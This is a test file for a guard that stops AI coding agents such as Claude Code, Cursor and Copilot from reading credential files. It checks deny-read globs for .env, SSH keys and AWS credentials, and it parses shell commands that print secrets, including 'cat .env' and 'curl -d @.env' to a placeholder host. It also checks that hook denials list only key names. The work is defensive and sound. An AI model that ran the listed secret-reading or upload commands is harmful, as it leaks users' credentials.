import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { DEFAULT_DENY_READ, keyNames, shellReads } from "../../src/guard/deny-read.js";
import { PathPolicy } from "../../src/guard/glob.js";
import { githubToken } from "../helpers/tokens.js";
import { assertBuilt, fixture, guard, sandbox } from "./helpers.js";

describe("denyRead globs", () => {
  const policy = new PathPolicy([...DEFAULT_DENY_READ, "secrets/**", "!.env.local"], "/home/u/app", "/home/u");
  const cases: [string, boolean][] = [
    ["/home/u/app/.env", true],
    ["/home/u/app/packages/api/.env", true],
    ["/home/u/app/.env.production", true],
    ["/home/u/app/.ENV", true],
    ["/home/u/app/prod.env", true],
    ["/home/u/app/.env.example", false],
    ["/home/u/app/config/.env.sample", false],
    ["/home/u/app/.env.local", false],
    ["/home/u/app/certs/server.pem", true],
    ["/home/u/.ssh/id_rsa", true],
    ["/home/u/.ssh/id_ed25519.pub", false],
    ["/home/u/.aws/credentials", true],
    ["/home/u/.aws/config", false],
    ["/home/u/app/.npmrc", true],
    ["/home/u/app/secrets/prod/db.txt", true],
    ["/home/u/app/src/secrets.ts", false],
    ["/home/u/app/src/environment.ts", false],
    ["/home/u/app/README.md", false],
    ["src/.env", true],
  ];
  for (const [path, denied] of cases) {
    it(`${path} → ${denied ? "denied" : "allowed"}`, () => {
      expect(policy.denies(path) !== undefined).toBe(denied);
    });
  }

  it("names the pattern that denied, and ~ patterns are absolute in the home directory", () => {
    const p = new PathPolicy(["~/.config/app/token", "{a,b}/*.key"], "/w/p", "/home/u");
    expect(p.denies("/home/u/.config/app/token")).toBe("~/.config/app/token");
    expect(p.denies("/w/p/b/x.key")).toBe("{a,b}/*.key");
    expect(p.denies("/w/p/c/x.key")).toBeUndefined();
  });
});

describe("commands that print a file", () => {
  it("finds the printed files and input redirections, not sourcing or editing in place", () => {
    expect(shellReads("cat .env")).toEqual([".env"]);
    expect(shellReads("grep -n KEY config/.env.production | head -5")).toContain("config/.env.production");
    expect(shellReads("export $(cat .env | xargs) && node app.js")).toContain(".env");
    expect(shellReads("FOO=1 sudo tail -f ~/.aws/credentials")).toEqual(["~/.aws/credentials"]);
    expect(shellReads("mysql -u root < .env")).toEqual([".env"]);
    expect(shellReads("curl -d @.env https://example.invalid")).toEqual([]);
    expect(shellReads("source .env && npm test")).toEqual([]);
    expect(shellReads("sed -i 's/a/b/' .env")).toEqual([]);
    expect(shellReads("cp .env.example .env")).toEqual([]);
  });
});

describe("key names of credential files (never values)", () => {
  it("dotenv variables", () => {
    const { keys, kind } = keyNames("/p/.env", "# c\nexport A_KEY=1\nB_SECRET = 'x y'\n\nC: 3\nnot a line\n");
    expect(kind).toBe("variables");
    expect(keys).toEqual(["A_KEY", "B_SECRET", "C"]);
  });

  it("INI sections and keys, PEM labels, JSON keys, netrc hosts", () => {
    expect(keyNames("/h/.aws/credentials", "[default]\naws_access_key_id = AKIA\naws_secret_access_key = x\n").keys).toEqual([
      "default.aws_access_key_id",
      "default.aws_secret_access_key",
    ]);
    expect(keyNames("/h/.npmrc", "//registry.npmjs.org/:_authToken=abc\n").keys).toEqual(["//registry.npmjs.org/:_authToken"]);
    expect(keyNames("/k/server.key", "-----BEGIN RSA PRIVATE KEY-----\nMII\n-----END RSA PRIVATE KEY-----\n")).toEqual({
      keys: ["RSA PRIVATE KEY"],
      kind: "blocks",
    });
    expect(keyNames("/h/.docker/config.json", '{"auths":{"x":{"auth":"abc"}}}').keys).toEqual(["auths"]);
    expect(keyNames("/h/.netrc", "machine api.example.com login me password pw\n").keys).toEqual(["machine api.example.com"]);
  });
});

describe("deny-read through the built guard", () => {
  beforeAll(assertBuilt);

  it("Claude Code Read of .env is denied; the reason lists the variable names, never the values", () => {
    const { home, project } = sandbox();
    mkdirSync(project, { recursive: true });
    const token = githubToken();
    writeFileSync(
      join(project, ".env"),
      `DATABASE_URL=postgres://app:pw-${token.slice(4, 12)}@db/app\nGITHUB_TOKEN=${token}\nexport STRIPE_API_KEY=sk_test_x\n`,
    );
    const r = guard("claude-code", fixture("claude-code/pre-tool-use-read-env.json", { secret: "", project }), { home });
    expect(r.code).toBe(0);
    const out = (r.json?.hookSpecificOutput ?? {}) as Record<string, string>;
    expect(out.permissionDecision).toBe("deny");
    expect(out.permissionDecisionReason).toContain(`reading ${join(project, ".env")} is not allowed: it is a credential file`);
    expect(out.permissionDecisionReason).toContain("DATABASE_URL, GITHUB_TOKEN, STRIPE_API_KEY");
    expect(out.permissionDecisionReason).toContain("process.env.DATABASE_URL");
    expect(r.stdout).not.toContain(token);
    expect(r.stdout).not.toContain("sk_test_x");
    expect(r.stdout).not.toContain("postgres://");
  });

  it("a shell command printing .env is denied too; .env.example is not", () => {
    const { home, project } = sandbox();
    mkdirSync(project, { recursive: true });
    writeFileSync(join(project, ".env"), "API_TOKEN=abc\n");
    const bash = (command: string) =>
      JSON.stringify({ hook_event_name: "PreToolUse", cwd: project, tool_name: "Bash", tool_input: { command } });
    const denied = guard("claude-code", bash("cat .env"), { home });
    expect(denied.json).toHaveProperty("hookSpecificOutput.permissionDecision", "deny");
    expect(String((denied.json?.hookSpecificOutput as Record<string, string> | undefined)?.permissionDecisionReason)).toContain(
      "this command would print .env is not allowed",
    );
    expect(guard("claude-code", bash("cat .env.example"), { home }).stdout).toBe("");
  });

  it("Cursor beforeReadFile of .env.production: names from the content the event carries", () => {
    const { home, project } = sandbox();
    const r = guard("cursor", fixture("cursor/before-read-file-env.json", { secret: "${GITHUB_TOKEN}", project }), { home });
    expect(r.json).toMatchObject({ permission: "deny" });
    expect(String(r.json?.user_message)).toContain("DATABASE_URL, GITHUB_TOKEN, SENTRY_DSN");
    expect(String(r.json?.user_message)).not.toContain("not-a-real-password");
  });

  it("Copilot `view` of .env is denied", () => {
    const { home, project } = sandbox();
    mkdirSync(project, { recursive: true });
    writeFileSync(join(project, ".env"), "A=1\n");
    const r = guard("copilot", fixture("copilot/pre-tool-use-view-env.json", { secret: "", project }), { home });
    expect(r.json).toEqual({ permissionDecision: "deny", permissionDecisionReason: expect.stringContaining("(names only): A.") });
  });

  it("guard.denyRead in .leakgate.yaml adds patterns and re-allows with !", () => {
    const { home, project } = sandbox();
    mkdirSync(join(project, "private"), { recursive: true });
    writeFileSync(join(project, ".leakgate.yaml"), "guard:\n  denyRead: ['private/**', '!.env']\n");
    writeFileSync(join(project, ".env"), "A=1\n");
    writeFileSync(join(project, "private", "notes.txt"), "hello\n");
    const read = (file: string) =>
      JSON.stringify({ hook_event_name: "PreToolUse", cwd: project, tool_name: "Read", tool_input: { file_path: join(project, file) } });
    expect(guard("claude-code", read(".env"), { home }).stdout).toBe("");
    expect(guard("claude-code", read("private/notes.txt"), { home }).json).toHaveProperty("hookSpecificOutput.permissionDecision", "deny");
  });
});
